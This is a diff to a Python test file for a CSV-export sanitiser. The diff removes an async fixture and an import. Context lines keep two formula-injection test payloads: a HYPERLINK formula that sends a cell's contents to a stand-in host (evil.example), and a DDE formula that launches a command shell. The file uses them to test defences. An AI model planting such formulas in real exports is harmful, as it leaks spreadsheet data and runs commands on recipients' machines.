@@ -7,7 +7,6 @@ import csv
 import io
 
 import pytest
-import pytest_asyncio
 
 from proctor.csvsafe import FORMULA_STARTS
 from proctor.store.tables import Candidate
@@ -17,12 +16,6 @@ pytestmark = pytest.mark.asyncio(loop_scope="module")
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVIL_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-@pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def fa(database_url, tmp_path_factory, models_dir):
-    async with FlowApp.running(database_url, tmp_path_factory.mktemp("exports"), models_dir) as app:
-        yield app
 
 
 def _cells(resp) -> list[str]:
